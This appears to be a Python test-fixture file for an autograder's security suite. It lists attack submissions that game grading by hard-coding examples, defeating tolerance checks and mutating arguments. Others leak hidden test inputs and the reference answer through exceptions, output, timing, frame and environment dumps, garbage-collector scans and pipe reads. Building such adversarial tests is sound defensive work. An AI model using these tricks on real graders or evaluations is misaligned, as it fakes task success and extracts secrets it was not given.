# ruff: noqa: E501 — attacks are as whoever makes them writes them
"""Group D: what feedback tells of hidden tests, and what is remembered from one test to the next."""

from __future__ import annotations

from hostile.attack import Attack, Gain
from hostile.channel import FRAMES

__all__ = ["ATTACKS"]

_HIDDEN = (Gain.HIDDEN,)
_SHOWS = "a number of a hidden test in the feedback that a student gets"
_NO_FEEDBACK = "the control hides nothing: all that is printed is shown"

ATTACKS = (
    Attack(
        number=55,
        name="hard-coded-examples",
        goal="answer the cases that are public, and no others",
        shows="points for the example",
        aims=(Gain.POINTS,),
        outcomes=("failed",),
        source="""
import numpy as np
def convert(x):
    return np.array([40518.462109375, 40519.11171875]) if x.tolist() == [1, 2] else x
""",
    ),
    Attack(
        number=57,
        name="wrong-answer",
        goal="be told the expected values",
        shows=_SHOWS,
        aims=_HIDDEN,
        source="def convert(x):\n    return x * 0 + 40517.8125\n",
    ),
    Attack(
        number=58,
        name="exception-text",
        goal="carry inputs out in the text of an exception",
        shows=_SHOWS,
        aims=_HIDDEN,
        outcomes=("errored",),
        source="def convert(x):\n    raise ValueError(str(x.tolist()))\n",
    ),
    Attack(
        number=58,
        name="printed-inputs",
        goal="carry inputs out on standard output and standard error",
        shows=_SHOWS,
        aims=_HIDDEN,
        source="import sys\ndef convert(x):\n    print(x.tolist())\n    print(x.tolist(), file=sys.stderr)\n    return x\n",
    ),
    Attack(
        number=58,
        name="returned-inputs",
        goal="carry inputs out in what comes back",
        shows=_SHOWS,
        aims=_HIDDEN,
        source="def convert(x):\n    return {str(x.tolist()): [x, x.tolist()]}\n",
    ),
    Attack(
        number=59,
        name="class-name",
        goal="carry inputs out in the names of classes",
        shows=_SHOWS,
        aims=_HIDDEN,
        outcomes=("errored",),
        source="def convert(x):\n    raise type(str(x.tolist()), (Exception,), {})\n",
    ),
    Attack(
        number=59,
        name="opaque-name",
        goal="the same in the name of the type that comes back",
        shows=_SHOWS,
        aims=_HIDDEN,
        source="def convert(x):\n    return type(str(x.tolist()), (), {})()\n",
    ),
    Attack(
        number=59,
        name="warnings",
        goal="carry inputs out in warnings",
        shows=_SHOWS,
        aims=_HIDDEN,
        source="import warnings\ndef convert(x):\n    warnings.warn(str(x.tolist()), type(f'W{x.tolist()}', (Warning,), {}))\n    return x\n",
    ),
    Attack(
        number=59,
        name="special-exceptions",
        goal="have an exception that is told in another way than others carry them",
        shows=_SHOWS,
        aims=_HIDDEN,
        outcomes=("errored",),
        source="""
calls = 0
def convert(x):
    global calls
    calls += 1
    kind = [ModuleNotFoundError, NotImplementedError, NameError, SyntaxError, SystemExit, MemoryError][calls % 6]
    if len(x) > 2:
        kind = TypeError
    raise kind(f"convert() missing 1 required positional argument: '{x.tolist()}'")
""",
        unlike=_NO_FEEDBACK,
    ),
    Attack(
        number=61,
        name="twice-the-answer",
        goal="be told that it is off by a factor",
        shows=_SHOWS,
        aims=_HIDDEN,
        source="import numpy as np\ndef convert(x):\n    return 2 * (x * 0.649609375 + 40517.8125)\n",
    ),
    Attack(
        number=62,
        name="timed-bits",
        goal="have an input's bits shown as running times",
        shows="a time in the feedback (the result is searched for its number of milliseconds)",
        aims=_HIDDEN,
        unlike="the control shows no times",
        source="import time\ndef convert(x):\n    time.sleep(0.2 if x[0] > 5000 else 0.01)\n    return x\n",
    ),
    Attack(
        number=63,
        name="told-what-it-is",
        goal="find out which calls are hidden tests, to behave only then",
        shows="the name of a test, an exercise's title or a role in what the process can see",
        aims=(Gain.SECRET,),
        unlike="the control has no names of tests",
        source="""
import gc, inspect, os, sys
def convert(x):
    frame, seen = sys._getframe(), [sys.argv, dict(os.environ), os.getcwd()]
    while frame is not None:
        seen.append([(name, value) for name, value in frame.f_locals.items() if name != "seen"])
        frame = frame.f_back
    return str(seen)[:100_000]
""",
    ),
    Attack(
        number=64,
        name="helper-with-the-reference",
        goal="find the reference's code among all functions there are",
        shows="its constant in what comes back",
        aims=(Gain.SECRET,),
        unlike="the control has no reference",
        source="""
import gc, types
def convert(x):
    found = []
    for thing in gc.get_objects():
        code = getattr(thing, "__code__", None) if type(thing) is types.FunctionType else None
        if code is not None:
            found += [part for part in code.co_consts if type(part) is float and part > 40000]
    return str(found)
""",
    ),
    Attack(
        number=64,
        name="helper-that-answers",
        goal="get at a helper's reference by asking what it answers, and by having it fail",
        shows="its text or its constant in what comes back",
        aims=(Gain.SECRET, Gain.POINTS),
        exercise="after",
        unlike="the control has no reference",
        source="""
import gc, sys
def convert(x):
    return x
def texts(value):
    parts = value.values() if type(value) is dict else value if type(value) in (list, tuple) else ()
    return [str(part) for part in parts if type(part) in (str, bytes, bytearray)]
def after(x):
    found = []
    try:
        convert("no number")
    except Exception as error:
        place = error.__traceback__
        while place:
            found.append(repr(error.args) + repr(place.tb_frame.f_locals))
            place = place.tb_next
    convert(x)
    found += [text for thing in gc.get_objects() for text in texts(thing)]
    backwards = ("ecnerefer-rekram", "5218.71504")  # so that it does not find itself
    return [text for text in found if any(one in text[::-1] for one in backwards)][:20]
""",
    ),
    Attack(
        number=66,
        name="changed-argument-denied",
        goal="change its argument and have it not noticed",
        shows="full points for a function that changes what it is given",
        aims=(Gain.POINTS,),
        earned=0,
        source="""
import numpy as np
def convert(x):
    before = x * 0.649609375 + 40517.8125
    x.setflags(write=True)
    x[:] = 0
    x.resize(2, refcheck=False)
    return before
""",
        unlike="the control does not look at arguments",
    ),
    Attack(
        number=67,
        name="seen-inputs-in-practice",
        goal="remember hidden inputs, and say them in a call that is shown in full",
        shows=_SHOWS,
        aims=_HIDDEN,
        outcomes=("errored",),
        source="seen = []\ndef convert(x):\n    seen.append(x.tolist())\n    raise ValueError(str(seen))\n",
    ),
    Attack(
        number=67,
        name="seen-inputs-in-an-example",
        goal="remember one exercise's hidden inputs, and say them in the next one's example",
        shows=_SHOWS,
        aims=_HIDDEN,
        outcomes=("errored",),
        exercise="total",
        also=("convert",),
        source="""
seen = []
def convert(x):
    seen.append(x.tolist())
    return x
def total(x):
    print(seen)
    raise ValueError(str(seen))
""",
        unlike="the control grades one exercise",
    ),
    Attack(
        number=67,
        name="seen-inputs-while-loading",
        goal="remember hidden inputs, and say them in a file that is loaded later",
        shows=_SHOWS,
        aims=_HIDDEN,
        exercise="total",
        also=("convert",),
        file="convert.py",
        files={
            "total.py": """
import sys
raise ValueError(str(sys.modules["submission_1"].seen))
def total(x):
    return 1.0
"""
        },
        source="seen = []\ndef convert(x):\n    seen.append(x.tolist())\n    return x\n",
        unlike="the control loads one file",
    ),
    Attack(
        number=67,
        name="reading-ahead",
        goal="read the calls that are still to come, and say them in the first, which is shown",
        shows=_SHOWS,
        aims=_HIDDEN,
        outcomes=("errored", "crashed", "timed_out", "failed"),
        source=FRAMES
        + """
import gc
def coming():
    found = []
    for number in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & 3 == os.O_RDONLY:
                time.sleep(0.1)
                os.set_blocking(number, False)
                found.append(os.read(number, 1 << 16))
        except OSError:
            pass
    found += [bytes(thing) for thing in gc.get_objects() if type(thing) in (bytes, bytearray)]
    for thing in gc.get_objects():
        found += [bytes(part) for part in gc.get_referents(thing) if type(part) is bytearray and len(part) < 1 << 20]
    return b"".join(found)
def numbers(data):
    for start in range(len(data) - 7):
        (value,) = struct.unpack_from("<d", data, start)
        if 1000 < abs(value) < 1e5 and value * 1024 % 1 == 0:
            yield value
def convert(x):
    raise ValueError(str(sorted(set(numbers(coming())))))
""",
        unlike="the control hides nothing",
    ),
    Attack(
        number=69,
        name="boundless-answers",
        goal="make the tolerance as large as the answer",
        shows="points for numbers beyond all bounds",
        aims=(Gain.POINTS,),
        unlike="numpy's tolerance goes by its second argument, which the control gets right",
        source="import numpy as np\ndef convert(x):\n    return np.full(x.shape, 1.7e308)\n",
    ),
)
